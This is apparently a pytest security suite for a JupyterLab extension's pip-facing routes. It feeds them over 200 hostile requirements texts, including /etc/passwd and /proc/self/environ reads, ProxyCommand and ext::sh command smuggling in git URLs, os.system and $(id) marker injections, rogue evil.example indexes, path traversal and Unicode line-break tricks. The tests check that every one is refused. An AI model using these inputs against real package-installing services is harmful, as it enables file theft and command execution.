"""Hostile requirements texts against the routes that hand requirements to pip.

Each text goes through POST bundle with a wheelhouse, POST preflight (one entry a line,
with a hostile workspacePath where the line names a bundle path), and the wheelhouse
download a build does (``parse_build_request`` + ``download_wheelhouse`` exactly as
builds.py calls it). Around the Jupyter root lie a canary file, a wheel, a project and a
git repository, outside it, each holding a unique canary text; every project and every
sdist of the test index writes a marker file when its build code runs.

A text *escapes* when a route accepts it (a zip, an "ok" pre-flight, a wheelhouse), when
the canary shows up in any answer (zip members, wheels inside it, error messages, the
pre-flight answer), or when a build ran that the policy did not allow (a marker file).
Controls that the policy allows must work: a pinned wheel, a vendored project (its build
allowed) and a git repository inside the root pinned to a commit.
Counts go to ``Figures("requirements")``: hostile_requirements_tried (texts) and
hostile_requirements_escaped (files from outside the root, or builds the policy did not allow).
"""

from __future__ import annotations

import io
import json
import subprocess
import tarfile
import uuid
import zipfile
from pathlib import Path
from typing import Any

import pytest

from jupyterlab_dockerize.bundle import BundleLimits
from jupyterlab_dockerize.cancellation import Cancellation
from jupyterlab_dockerize.contracts import parse_build_request
from jupyterlab_dockerize.errors import DockerizeError
from jupyterlab_dockerize.wheelhouse import download_wheelhouse

from .figures import Figures
from .test_wheelhouse import make_project, make_wheel

BUNDLE_ROUTE = ("jupyterlab-dockerize", "bundle")
PREFLIGHT_ROUTE = ("jupyterlab-dockerize", "preflight")
CANARY = f"DZ-CANARY-{uuid.uuid4().hex}"
PYTHON = "3.11.7"
MIN_TEXTS = 200
COMMIT = "0123456789abcdef0123456789abcdef01234567"


@pytest.fixture
def world(tmp_path_factory):
    """The files around the root, and the local wheel folder the server's pip uses."""
    base = tmp_path_factory.mktemp("hostile-requirements")
    outside, markers, links = base / "outside", base / "markers", base / "links"
    for folder in (outside, markers, links):
        folder.mkdir()
    (outside / "canary.txt").write_text(CANARY + "\n")
    wheel = make_wheel(outside, "evil", "1.0")
    with zipfile.ZipFile(wheel, "a") as archive:
        archive.writestr("evil/canary.txt", CANARY)
    project = make_project(outside / "evilproj", "evilproj", markers / "evilproj")
    (project / "evilproj" / "canary.txt").write_text(CANARY)
    repo = make_project(outside / "evilrepo", "evilrepo", markers / "evilrepo")
    commit = _git_commit(repo)
    make_wheel(links, "dzgoodpkg", "1.0")
    _make_sdist(links, "dzevilsdist", "1.0", markers / "dzevilsdist")
    return {
        "base": base, "outside": outside, "markers": markers, "links": links,
        "wheel": wheel, "project": project, "repo": repo, "commit": commit,
    }  # fmt: skip


def _git_commit(repo: Path) -> str:
    git = ["git", "-C", str(repo), "-c", "user.name=t", "-c", "user.email=t@t"]
    subprocess.run([*git, "init", "-q"], check=True)
    subprocess.run([*git, "add", "."], check=True)
    subprocess.run([*git, "commit", "-q", "-m", "x"], check=True)
    done = subprocess.run([*git, "rev-parse", "HEAD"], capture_output=True, text=True, check=True)
    return done.stdout.strip()


def _make_sdist(folder: Path, name: str, version: str, marker: Path) -> None:
    """An sdist whose setup.py writes ``marker`` when run: building it is an escape."""
    source = folder / f"{name}-src"
    make_project(source, name, marker)
    with tarfile.open(folder / f"{name}-{version}.tar.gz", "w:gz") as archive:
        for path in sorted(source.rglob("*")):
            archive.add(path, f"{name}-{version}/{path.relative_to(source)}", recursive=False)
        info = tarfile.TarInfo(f"{name}-{version}/PKG-INFO")
        data = f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    subprocess.run(["rm", "-rf", str(source)], check=True)


@pytest.fixture
def jp_server_config(tmp_path, world):
    return {
        "ServerApp": {"jpserver_extensions": {"jupyterlab_dockerize": True}},
        "Dockerize": {
            "docker_host": f"unix://{tmp_path}/no-engine.sock",
            "engine_timeout": 2.0,
            "state_dir": str(tmp_path / "dockerize-state"),
            "pip_find_links": [str(world["links"])],
        },
    }


@pytest.fixture
def inside(jp_root_dir, world):
    """Inside the root: a vendored project and a git repository (both may be built)."""
    root = Path(jp_root_dir)
    make_project(root / "myproj", "myproj", world["markers"] / "allowed-myproj")
    repo = make_project(root / "insiderepo", "insiderepo", world["markers"] / "allowed-insiderepo")
    return {"root": root, "commit": _git_commit(repo), "repo": repo}


# --- the texts ----------------------------------------------------------------------------

OPTIONS = [
    "-r", "--requirement", "-c", "--constraint", "-e", "--editable", "-f", "--find-links",
    "-i", "--index-url", "--extra-index-url", "--trusted-host", "--no-index", "--pre",
    "--only-binary", "--no-binary", "--prefer-binary", "--hash", "--config-settings",
    "--global-option", "--use-feature", "--src", "-Z", "--no-deps",
]  # fmt: skip


def hostile_texts(world: dict[str, Any], inside_root: Path) -> list[str]:
    out = world["outside"]
    canary, wheel, project, repo = (
        out / "canary.txt",
        world["wheel"],
        world["project"],
        world["repo"],
    )
    commit = world["commit"]
    texts = [
        f"--find-links {out}\ndzgoodpkg==1.0",
        f"-f {out}\nevil==1.0",
        "-r /etc/passwd",
        f"-r {canary}",
        f"-c {canary}",
        f"evil @ file://{wheel}",
        f"evil @ file://localhost{wheel}",
        f"evil @ file:{wheel}",
        f"evilproj @ file://{project}",
        "name @ /etc",
        "name @ file:///etc",
        f"{project}",
        f"{wheel}",
        f"./../{project.relative_to(world['base'])}",
        f"../outside/{wheel.name}",
        f"-e {project}",
        f"-e file://{project}",
        f"-e git+file://{repo}@{commit}#egg=evilrepo",
        f"evilrepo @ git+file://{repo}@{commit}",
        f"evilrepo @ git+file://{repo}",
        f"evilrepo @ git+file://{repo}@master",
        f"evilrepo @ git+file://{repo}@{commit[:12]}",
        f"evilrepo @ git+file://{inside_root}/../{repo.relative_to(world['base'].parent)}@{commit}",
        f"evilrepo @ git+file://{inside_root}/insiderepo/../../outside/evilrepo@{commit}",
        f"evilrepo @ git+file:///{inside_root}/%2e%2e/outside@{commit}",
        "x @ git+https://github.com/pypa/sampleproject@main",
        "x @ git+https://github.com/pypa/sampleproject@v1.0",
        "x @ git+https://github.com/pypa/sampleproject.git",
        f"x @ git+https://user:token@github.com/pypa/sampleproject@{COMMIT}",
        f"x @ git+https://-oProxyCommand=touch%20x/p@{COMMIT}",
        f"x @ git+ssh://-oProxyCommand=x/p@{COMMIT}",
        f"x @ git+ext::sh -c touch% /tmp/x@{COMMIT}",
        f"x @ git+git://example.org/p@{COMMIT}",
        f"x @ git+http://user:pw@127.0.0.1:1/p@{COMMIT}",
        f"x @ hg+https://example.org/p@{COMMIT}",
        f"x @ svn+https://example.org/p@{COMMIT}",
        f"x @ bzr+https://example.org/p@{COMMIT}",
        f"x @ git+https://example.org/p@{COMMIT}#subdirectory=../../outside",
        f"x @ git+https://example.org/p@{COMMIT}#egg=x&subdirectory=/etc",
        f"x @ git+https://example.org/../p@{COMMIT}",
        "x @ https://example.org/x-1.0.tar.gz",
        "x @ https://example.org/x-1.0-py3-none-any.whl",
        "x @ http://127.0.0.1:1/x.whl",
        f"x @ file://{out}/",
        f"x @ file://{out}",
        "--index-url http://evil.example/simple\ndzgoodpkg==1.0",
        "--extra-index-url http://evil.example/simple\ndzgoodpkg==1.0",
        "-i http://evil.example/simple",
        "--trusted-host evil.example",
        "${HOME}/x",
        "-r ${HOME}/.bashrc",
        "dzgoodpkg==${VERSION}",
        "$HOME",
        "dzgoodpkg==1.0 \\\n-r /etc/passwd",
        "dzgoodpkg==1.0 # x \\\n--find-links /etc",
        "\\\n--find-links /tmp",
        "dzgoodpkg==1.0\x00-r /etc/passwd",
        "dzgoodpkg==1.0\r-r /etc/passwd",
        "dzgoodpkg==1.0\r\n-r /etc/passwd",
        "dzgoodpkg==1.0\x0b-r /etc/passwd",
        "dzgoodpkg==1.0\x0c-r /etc/passwd",
        "dzgoodpkg==1.0\x85-r /etc/passwd",
        "dzgoodpkg==1.0\u2028-r /etc/passwd",
        "dzgoodpkg==1.0\u2029-r /etc/passwd",
        "\ufeffdzgoodpkg==1.0",
        "dzgoodpkg\uff1d\uff1d1.0",
        "dzg\u043e\u043edpkg==1.0",
        "dzgoodpkg==1.0\u202e",
        "dzgoodpkg==1.0\t-r /etc/passwd",
        "dzgoodpkg==1.0 --hash=sha256:" + "0" * 64,
        "dzgoodpkg==1.0 --hash sha256:" + "0" * 64,
        "dzgoodpkg==1.0 \\\n    --hash=sha256:" + "0" * 64,
        "dzgoodpkg[../../outside]==1.0",
        "dzgoodpkg[/etc/passwd]==1.0",
        f"dzgoodpkg[{canary}]==1.0",
        'dzgoodpkg==1.0; __import__("os").system("x")',
        "dzgoodpkg==1.0; python_version >= '3' and `id`",
        "dzgoodpkg==1.0; os_name == '$(id)'",
        "dzgoodpkg==1.0; python_version >= '3' -r /etc/passwd",
        "a" * 5000 + "==1.0",
        "dzgoodpkg==" + "1." * 1000 + "0",
        "dzgoodpkg==1.0" + " " * 5000 + "x",
        "dzgoodpkg==1.0#-r /etc/passwd",
        "dzgoodpkg",
        "dzgoodpkg>=1.0",
        "dzgoodpkg~=1.0",
        "dzgoodpkg===1.0",
        "dzgoodpkg==1.*",
        "dzgoodpkg!=1.0",
        "dzgoodpkg<2",
        "dzgoodpkg==1.0,<2",
        "dzgoodpkg @ ",
        "@ file:///etc/passwd",
        "dzgoodpkg==1.0 @ file:///etc",
        "./vendor/notincluded",
        "./vendor/../../outside/evilproj",
        "./vendor/myproj/../../../outside/evilproj",
        "./vendor/.hidden",
        "./vendor/",
        "./vendor/a/b",
        "./vendor//etc",
        f"./wheels/{wheel.name}",
        "./wheels/../../outside/evil-1.0-py3-none-any.whl",
        "./wheels/not-a-wheel.txt",
        "./wheels/evil.whl",
        "~/x",
        "~root/x",
        "../outside/evilproj",
        "/etc/passwd",
        "//etc/passwd",
        "C:\\x\\y.whl",
        "\\\\server\\share\\x.whl",
        "dzevilsdist==1.0",
        f"dzgoodpkg==1.0\n-r {canary}",
        f"dzgoodpkg==1.0\n--find-links={out}",
        "dzgoodpkg==1.0\ndzgoodpkg==1.0",
    ]
    for option in OPTIONS:
        texts.append(f"{option} {out}")
        texts.append(f"{option}={canary}")
        texts.append(f"dzgoodpkg==1.0 {option} {out}")
    for target in (str(canary), str(wheel), str(project), "/etc/passwd", "/proc/self/environ"):
        texts += [f"name @ file://{target}", f"name@file://{target}", f"name @ {target}"]
    for scheme in ("file", "http", "https", "ftp", "data", "ssh", "git", "ext", "jar", "s3"):
        texts.append(f"name @ {scheme}://{out}/x")
    for ref in ("main", "HEAD", "v1", commit[:7], commit[:39], commit + "0", "refs/heads/x"):
        texts.append(f"x @ git+https://example.org/p.git@{ref}")
    seen: set[str] = set()
    unique = [t for t in texts if not (t in seen or seen.add(t))]
    return unique


# --- running them -------------------------------------------------------------------------


def contents_of_zip(raw: bytes) -> bytes:
    """Every member's bytes, wheels and archives inside it opened too."""
    found = [raw]
    try:
        archive = zipfile.ZipFile(io.BytesIO(raw))
    except zipfile.BadZipFile:
        return raw
    for name in archive.namelist():
        data = archive.read(name)
        found.append(name.encode())
        found.append(contents_of_zip(data) if name.endswith((".whl", ".zip")) else data)
    return b"\n".join(found)


async def post(jp_fetch, route: tuple[str, str], body: dict[str, Any]) -> tuple[int, bytes]:
    response = await jp_fetch(
        *route, method="POST", body=json.dumps(body), raise_error=False, request_timeout=120
    )
    return response.code, response.body or b""


def bundle_body(text: str) -> dict[str, Any]:
    return {
        "name": "hostile",
        "files": {"Dockerfile": "FROM scratch\n", "requirements.txt": text + "\n"},
        "wheelhouse": {"python": PYTHON, "platform": "linux/amd64", "extra": []},
    }


def preflight_body(text: str, world: dict[str, Any]) -> dict[str, Any]:
    entries = []
    for line in text.split("\n") or [""]:
        entry: dict[str, Any] = {"name": "x", "line": line}
        if line.startswith(("./vendor", "./wheels")):
            entry["workspacePath"] = f"../outside/{world['wheel'].name}"
        entries.append(entry)
    return {
        "python": PYTHON,
        "platform": "linux/amd64",
        "binaryOnly": True,
        "requirements": entries,
    }


def build_wheelhouse(text: str, root: Path, temp: Path) -> bytes:
    """The wheelhouse a build downloads: builds.py's own call, with its arguments."""
    body = {**bundle_body(text), "image": "dz-hostile/x:1"}
    try:
        request = parse_build_request(json.dumps(body).encode(), BundleLimits())
        house, lock, _ = download_wheelhouse(
            request.wheelhouse, request.spec.files, temp, lambda line: None, Cancellation()
        )
    except DockerizeError as error:
        return b"REFUSED " + json.dumps(error.to_json()).encode()
    return b"ACCEPTED " + lock + b"".join(contents_of_zip(p.read_bytes()) for p in house.iterdir())


def markers_written(world: dict[str, Any]) -> list[str]:
    return sorted(p.name for p in world["markers"].iterdir() if not p.name.startswith("allowed-"))


async def test_hostile_requirements_never_escape(jp_fetch, jp_serverapp, world, inside, tmp_path):
    texts = hostile_texts(world, inside["root"])
    assert len(texts) >= MIN_TEXTS, len(texts)
    escaped: list[str] = []
    for number, text in enumerate(texts):
        label = repr(text[:80])
        code, raw = await post(jp_fetch, BUNDLE_ROUTE, bundle_body(text))
        if code == 200:
            escaped.append(f"bundle accepted {label}")
        if CANARY.encode() in contents_of_zip(raw):
            escaped.append(f"bundle canary {label}")
        if code != 200:
            error = json.loads(raw)["error"]
            assert error["message"] and error["hint"], (label, error)
            assert "Traceback" not in error["message"]
        code, raw = await post(jp_fetch, PREFLIGHT_ROUTE, preflight_body(text, world))
        if CANARY.encode() in raw:
            escaped.append(f"preflight canary {label}")
        if code == 200:
            answer = json.loads(raw)
            statuses = [p["status"] for p in answer["packages"]]
            lines = text.split("\n")
            for line, status in zip(lines, statuses, strict=True):
                if status == "ok" and line not in ("dzgoodpkg==1.0",):
                    escaped.append(f"preflight ok {label}: {line[:60]!r}")
        built = build_wheelhouse(text, inside["root"], tmp_path / f"build-{number}")
        if built.startswith(b"ACCEPTED"):
            escaped.append(f"build accepted {label}")
        if CANARY.encode() in built:
            escaped.append(f"build canary {label}")
    markers = markers_written(world)
    figures = Figures("requirements")
    figures.add(
        hostile_requirements_tried=len(texts),
        hostile_requirements_escaped=len(escaped) + len(markers),
    )
    assert not markers, f"builds the policy did not allow: {markers}"
    assert not escaped, "\n".join(escaped[:40])


async def test_controls_the_policy_allows_still_work(jp_fetch, world, inside):
    """A pin, a vendored project and a git repository inside the root: accepted and built."""
    commit = inside["commit"]
    git_line = f"insiderepo @ git+file://{inside['repo']}@{commit}"
    body = bundle_body(f"dzgoodpkg==1.0\n./vendor/myproj\n{git_line}")
    body["include"] = [{"workspacePath": "myproj", "bundlePath": "vendor/myproj"}]
    code, raw = await post(jp_fetch, BUNDLE_ROUTE, body)
    assert code == 200, raw[:500]
    names = zipfile.ZipFile(io.BytesIO(raw)).namelist()
    assert "hostile/wheelhouse/dzgoodpkg-1.0-py3-none-any.whl" in names
    assert any(n.startswith("hostile/wheelhouse/myproj-1.0-") for n in names), names
    assert any(n.startswith("hostile/wheelhouse/insiderepo-1.0-") for n in names), names
    assert (world["markers"] / "allowed-myproj").exists()
    assert CANARY.encode() not in contents_of_zip(raw)
    code, raw = await post(
        jp_fetch,
        PREFLIGHT_ROUTE,
        {
            "python": PYTHON, "platform": "linux/amd64", "binaryOnly": True,
            "requirements": [
                {"name": "dzgoodpkg", "line": "dzgoodpkg==1.0"},
                {"name": "dzevilsdist", "line": "dzevilsdist==1.0"},
                {"name": "myproj", "line": "./vendor/myproj", "workspacePath": "myproj"},
                {"name": "insiderepo", "line": git_line},
            ],
        },
    )  # fmt: skip
    assert code == 200, raw
    statuses = [p["status"] for p in json.loads(raw)["packages"]]
    assert statuses == ["ok", "source-only", "ok", "ok"], json.loads(raw)
    assert markers_written(world) == [], "the sdist was built"
